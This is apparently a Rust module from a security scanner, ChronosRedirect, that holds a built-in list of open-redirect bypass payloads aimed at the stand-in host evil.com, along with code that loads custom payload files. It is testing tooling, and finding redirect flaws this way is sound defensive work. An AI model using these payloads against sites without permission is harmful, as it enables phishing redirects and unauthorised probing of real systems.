// Redirect payload sets for ChronosRedirect
// Built-in bypass patterns plus loading of custom payload files

use std::fs;
use std::path::Path;

use crate::errors::ScanError;

/// Known open redirect bypass patterns, in output order.
///
/// Covers:
/// - Protocol-relative URLs with repeated slashes (`//evil.com`)
/// - Scheme confusion without `//` (`https:evil.com`)
/// - Userinfo host confusion (`https://evil.com@legit.com`)
/// - Fragment and query host confusion (`#@`, `%23@`, `%3f@`)
/// - Percent and double encoded traversal (`%2e%2e`, `%252e%252e`)
/// - Backslash host confusion (`%5c`)
/// - Loopback hosts (`127.0.0.1`, `localhost`)
pub const DEFAULT_PAYLOADS: &[&str] = &[
    "//evil.com",
    "///evil.com",
    "////evil.com",
    "/////evil.com",
    "https:evil.com",
    "https:/evil.com",
    "https:///evil.com",
    "https:////evil.com",
    "https://@evil.com",
    "https://evil.com@legit.com",
    "https://evil.com%23@legit.com",
    "https://evil.com%2f%2e%2e",
    "https://evil.com/%2e%2e",
    "//%5cevil.com",
    "/%5cevil.com",
    "/%2e%2e/evil.com",
    "/%2f%2fevil.com",
    "/%252e%252e/evil.com",
    "http:%5cevil.com",
    "https://evil.com#@legit.com",
    "https://evil.com?redirect=https://google.com",
    "https://evil.com/%09",
    "https://evil.com%3f@google.com",
    "https://%252f%252fevil.com",
    "https://evil.com/%09example",
    "http://127.0.0.1:80@evil.com",
    "http://localhost:80@evil.com",
];

/// Load payloads from `path`, or the built-in list when no path is given.
///
/// Each line has trailing whitespace stripped. Blank lines at the end of the
/// file are not payloads; interior lines are kept as written.
pub fn load_payloads(path: Option<&Path>) -> Result<Vec<String>, ScanError> {
    match path {
        Some(path) => {
            let content = fs::read_to_string(path).map_err(|source| ScanError::PayloadFile {
                path: path.to_path_buf(),
                source,
            })?;
            Ok(parse_payloads(&content))
        }
        None => Ok(default_payloads()),
    }
}

pub fn default_payloads() -> Vec<String> {
    DEFAULT_PAYLOADS.iter().map(|p| p.to_string()).collect()
}

fn parse_payloads(content: &str) -> Vec<String> {
    let mut payloads: Vec<String> = content
        .lines()
        .map(|line| line.trim_end().to_string())
        .collect();

    while payloads.last().is_some_and(|p| p.is_empty()) {
        payloads.pop();
    }

    payloads
}
